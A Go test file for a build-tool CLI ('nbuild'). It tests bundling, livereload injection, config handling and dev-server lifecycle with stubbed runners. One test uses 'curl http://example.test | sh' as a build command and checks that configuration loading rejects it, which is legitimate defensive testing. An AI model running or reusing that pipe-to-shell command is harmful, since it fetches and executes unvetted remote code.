package cmd

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/spf13/afero"
	"github.com/spf13/cobra"
	"github.com/spf13/viper"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"gopkg.in/yaml.v3"

	"github.com/neatbudget/nbuild/internal/build"
	"github.com/neatbudget/nbuild/internal/config"
	"github.com/neatbudget/nbuild/internal/devserver"
	nberrors "github.com/neatbudget/nbuild/internal/errors"
	"github.com/neatbudget/nbuild/internal/livereload"
	"github.com/neatbudget/nbuild/internal/logging"
)

// bundlerStub writes fixed output for each tool it is asked to run.
type bundlerStub struct {
	fs    afero.Fs
	mu    sync.Mutex
	calls []string
	fail  bool
}

func (b *bundlerStub) Run(ctx context.Context, inv build.Invocation) ([]byte, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.calls = append(b.calls, inv.String())
	if b.fail {
		return []byte("Unexpected token"), errors.New("exit status 1")
	}
	switch {
	case inv.Command == build.ScriptCommand:
		if err := afero.WriteFile(b.fs, "public/build/bundle.css", []byte("h1{color:red}"), 0644); err != nil {
			return nil, err
		}
		return nil, afero.WriteFile(b.fs, "public/build/bundle.js", []byte("console.log(process.env.NODE_ENV)"), 0644)
	case strings.HasPrefix(inv.Command, "npx esbuild"):
		return nil, afero.WriteFile(b.fs, "public/build/bundle.js", []byte("console.log(process.env.NODE_ENV)"), 0644)
	case strings.HasPrefix(inv.Command, "npx workbox-cli"):
		return nil, afero.WriteFile(b.fs, "public/service-worker.js", []byte("self.skipWaiting()"), 0644)
	}
	return nil, nil
}

func (b *bundlerStub) callCount() int {
	b.mu.Lock()
	defer b.mu.Unlock()
	return len(b.calls)
}

// useStubs swaps the runner and filesystem seams for the duration of a test.
func useStubs(t *testing.T) (*bundlerStub, afero.Fs) {
	t.Helper()
	viper.Reset()
	t.Cleanup(viper.Reset)

	fs := afero.NewMemMapFs()
	stub := &bundlerStub{fs: fs}

	oldRunner, oldFs := newRunner, newFs
	newRunner = func() build.Runner { return stub }
	newFs = func() afero.Fs { return fs }
	t.Cleanup(func() { newRunner, newFs = oldRunner, oldFs })

	return stub, fs
}

func testCommand() (*cobra.Command, *bytes.Buffer) {
	var out bytes.Buffer
	c := &cobra.Command{}
	c.SetOut(&out)
	return c, &out
}

func TestRunBuildProduction(t *testing.T) {
	stub, fs := useStubs(t)
	viper.Set("log-level", "error")
	buildDev = false

	c, out := testCommand()
	require.NoError(t, runBuild(c, nil))

	bundle, err := afero.ReadFile(fs, "public/build/bundle.js")
	require.NoError(t, err)
	assert.Equal(t, `console.log("production")`, string(bundle))
	assert.NotContains(t, string(bundle), livereload.LoaderID)

	assert.Equal(t, 2, stub.callCount())
	assert.Equal(t, "node .nbuild/esbuild.config.mjs", stub.calls[0])

	script, err := afero.ReadFile(fs, ".nbuild/esbuild.config.mjs")
	require.NoError(t, err)
	assert.Contains(t, string(script), `import sveltePlugin from "esbuild-svelte";`)
	assert.Contains(t, string(script), "minify: true")
	assert.Contains(t, string(script), "compilerOptions: { dev: false }")

	summary := out.String()
	assert.Contains(t, summary, "Build completed (production)")
	assert.Contains(t, summary, "public/build/bundle.js")
	assert.Contains(t, summary, "public/build/bundle.css")
	assert.Contains(t, summary, "public/service-worker.js")
	assert.Contains(t, summary, "Service worker cache: neatBudget-0.0.1-5")
}

func TestRunBuildDevFlag(t *testing.T) {
	stub, fs := useStubs(t)
	viper.Set("log-level", "error")
	buildDev = true
	t.Cleanup(func() { buildDev = false })

	c, _ := testCommand()
	require.NoError(t, runBuild(c, nil))

	bundle, err := afero.ReadFile(fs, "public/build/bundle.js")
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(string(bundle), `console.log("development")`))
	assert.Contains(t, string(bundle), livereload.LoaderID)
	assert.Contains(t, string(bundle), `"http://localhost:35729/livereload.js"`)

	script, err := afero.ReadFile(fs, ".nbuild/esbuild.config.mjs")
	require.NoError(t, err)
	assert.Contains(t, string(script), "minify: false")
	assert.Contains(t, string(script), "compilerOptions: { dev: true }")
	assert.Equal(t, "node .nbuild/esbuild.config.mjs", stub.calls[0])
}

func TestRunBuildDevWithoutLiveReload(t *testing.T) {
	useStubs(t)
	viper.Set("log-level", "error")
	viper.Set("livereload.enabled", false)
	buildDev = true
	t.Cleanup(func() { buildDev = false })

	c, _ := testCommand()
	require.NoError(t, runBuild(c, nil))

	bundle, err := afero.ReadFile(newFs(), "public/build/bundle.js")
	require.NoError(t, err)
	assert.Equal(t, `console.log("development")`, string(bundle))
}

func TestRunBuildPlainEsbuild(t *testing.T) {
	stub, _ := useStubs(t)
	viper.Set("log-level", "error")
	viper.Set("build.svelte", false)

	c, _ := testCommand()
	require.NoError(t, runBuild(c, nil))
	assert.True(t, strings.HasPrefix(stub.calls[0], "npx esbuild src/main.js --bundle"))
	assert.Contains(t, stub.calls[0], "--minify")
}

func TestRunBuildFailure(t *testing.T) {
	stub, _ := useStubs(t)
	viper.Set("log-level", "error")
	stub.fail = true

	c, out := testCommand()
	err := runBuild(c, nil)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "build failed")
	assert.Empty(t, out.String())
}

func TestRunBuildInvalidConfig(t *testing.T) {
	useStubs(t)
	viper.Set("build.command", "curl http://example.test | sh")

	c, _ := testCommand()
	err := runBuild(c, nil)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "failed to load configuration")
}

func TestPrintSummary(t *testing.T) {
	var out bytes.Buffer
	cfg := &config.Config{ServiceWorker: config.ServiceWorkerConfig{Enabled: false}}
	printSummary(&out, cfg, build.Result{
		Mode: build.ModeProduction,
		Artifacts: []build.Artifact{
			{Path: "public/build/bundle.js", Size: 150000},
			{Path: "public/build/bundle.js.map", Size: 2500000},
		},
	})

	s := out.String()
	assert.Contains(t, s, "150 kB")
	assert.Contains(t, s, "2.5 MB")
	assert.Contains(t, s, "total")
	assert.NotContains(t, s, "Service worker")
}

func TestConfigShow(t *testing.T) {
	useStubs(t)

	t.Run("yaml", func(t *testing.T) {
		configFormat = "yaml"
		c, out := testCommand()
		require.NoError(t, runConfigShow(c, nil))

		var got map[string]interface{}
		require.NoError(t, yaml.Unmarshal(out.Bytes(), &got))
		sw := got["service_worker"].(map[string]interface{})
		assert.Equal(t, "neatBudget", sw["cache_prefix"])
		assert.Equal(t, "0.0.1-5", sw["version"])
	})

	t.Run("json", func(t *testing.T) {
		configFormat = "json"
		c, out := testCommand()
		require.NoError(t, runConfigShow(c, nil))

		var got config.Config
		require.NoError(t, json.Unmarshal(out.Bytes(), &got))
		assert.Equal(t, "npm run start -- --dev", got.DevServer.Command)
		assert.Equal(t, 35729, got.LiveReload.Port)
	})

	t.Run("unsupported", func(t *testing.T) {
		configFormat = "toml"
		c, _ := testCommand()
		assert.Error(t, runConfigShow(c, nil))
	})

	configFormat = "yaml"
}

func TestConfigValidate(t *testing.T) {
	useStubs(t)

	c, out := testCommand()
	require.NoError(t, runConfigValidate(c, nil))
	assert.Contains(t, out.String(), "Configuration is valid")

	viper.Set("livereload.port", 70000)
	assert.Error(t, runConfigValidate(c, nil))
}

func TestVersionCommand(t *testing.T) {
	versionFormat = "json"
	t.Cleanup(func() { versionFormat = "text" })

	c, out := testCommand()
	require.NoError(t, runVersionCommand(c, nil))

	var got map[string]interface{}
	require.NoError(t, json.Unmarshal(out.Bytes(), &got))
	assert.Contains(t, got, "version")
	assert.Contains(t, got, "go_version")

	versionFormat = "xml"
	assert.Error(t, runVersionCommand(c, nil))
}

func TestInitConfigReadsConfigFile(t *testing.T) {
	useStubs(t)
	dir := t.TempDir()
	chdir(t, dir)
	require.NoError(t, os.WriteFile(".nbuild.yml", []byte("service_worker:\n  version: 0.0.9-1\n"), 0644))

	cfgFile = ""
	initConfig()

	cfg, err := config.Load()
	require.NoError(t, err)
	assert.Equal(t, "0.0.9-1", cfg.ServiceWorker.Version)
}

func TestInitConfigEnvOverride(t *testing.T) {
	useStubs(t)
	chdir(t, t.TempDir())
	t.Setenv("NBUILD_SERVICE_WORKER_CACHE_PREFIX", "budget")

	cfgFile = ""
	initConfig()

	cfg, err := config.Load()
	require.NoError(t, err)
	assert.Equal(t, "budget", cfg.ServiceWorker.CachePrefix)
}

// spawnRecorder is a devserver.Spawner that never starts a real process.
type spawnRecorder struct {
	mu         sync.Mutex
	spawns     int
	terminates int
}

func (s *spawnRecorder) Spawn(devserver.Command) (devserver.Process, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.spawns++
	return s, nil
}

func (s *spawnRecorder) Pid() int { return 4242 }

func (s *spawnRecorder) Terminate() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.terminates++
	return nil
}

func (s *spawnRecorder) counts() (int, int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.spawns, s.terminates
}

func TestWatchSessionStartsDevServerOnceAfterWrite(t *testing.T) {
	useStubs(t)
	chdir(t, t.TempDir())
	require.NoError(t, os.Mkdir("src", 0755))

	v := viper.GetViper()
	v.Set("livereload.enabled", false)
	cfg, err := config.Load()
	require.NoError(t, err)

	hooks := devserver.NewSignalHooks()
	spawner := &spawnRecorder{}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	session, err := newWatchSession(ctx, cfg, logging.NewNopLogger(), hooks, spawner)
	require.NoError(t, err)

	spawns, _ := spawner.counts()
	assert.Equal(t, 1, spawns, "dev server starts after the first successful write")
	assert.Equal(t, devserver.StateRunning, session.launcher.State())

	require.NoError(t, session.pipeline.Run(ctx).Error)
	spawns, _ = spawner.counts()
	assert.Equal(t, 1, spawns, "later writes do not start another dev server")

	hooks.Exit()
	session.close()

	spawns, terminates := spawner.counts()
	assert.Equal(t, 1, spawns)
	assert.Equal(t, 1, terminates)
}

func TestWatchSessionFailedFirstBuildDefersDevServer(t *testing.T) {
	stub, _ := useStubs(t)
	stub.fail = true
	chdir(t, t.TempDir())
	require.NoError(t, os.Mkdir("src", 0755))

	viper.Set("livereload.enabled", false)
	cfg, err := config.Load()
	require.NoError(t, err)

	hooks := devserver.NewSignalHooks()
	spawner := &spawnRecorder{}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	session, err := newWatchSession(ctx, cfg, logging.NewNopLogger(), hooks, spawner)
	require.NoError(t, err)
	defer session.close()

	spawns, _ := spawner.counts()
	assert.Equal(t, 0, spawns)

	stub.mu.Lock()
	stub.fail = false
	stub.mu.Unlock()
	require.NoError(t, session.pipeline.Run(ctx).Error)

	spawns, _ = spawner.counts()
	assert.Equal(t, 1, spawns)
	hooks.Exit()
}

func TestWatchSessionReportFailure(t *testing.T) {
	var out bytes.Buffer
	s := &watchSession{logger: logging.NewLogger(&logging.LoggerConfig{Level: logging.LevelWarn, Output: &out})}
	ctx := context.Background()

	bundlerExit := nberrors.NewProcessError(nberrors.ErrCodeCommandFailed, "npx failed", errors.New("exit status 1"))
	bundlerExit.Recoverable = true
	s.reportFailure(ctx, nberrors.WrapBuild(bundlerExit, nberrors.ErrCodeBundleFailed, "bundler failed", "bundle"))
	assert.Contains(t, out.String(), "level=WARN")
	assert.Contains(t, out.String(), "waiting for changes")

	out.Reset()
	diskFull := nberrors.WrapIO(errors.New("disk full"), nberrors.ErrCodeReplaceFailed, "cannot write bundle")
	s.reportFailure(ctx, nberrors.WrapBuild(diskFull, nberrors.ErrCodeReplaceFailed, "cannot rewrite", "replace"))
	assert.Contains(t, out.String(), "level=ERROR")

	out.Reset()
	s.reportFailure(ctx, nil)
	assert.Empty(t, out.String())
}

// chdir changes the working directory for the duration of the test,
// mirroring testing.T.Chdir which is unavailable before Go 1.24.
func chdir(t *testing.T, dir string) {
	t.Helper()
	old, err := os.Getwd()
	require.NoError(t, err)
	require.NoError(t, os.Chdir(dir))
	t.Cleanup(func() { _ = os.Chdir(old) })
}
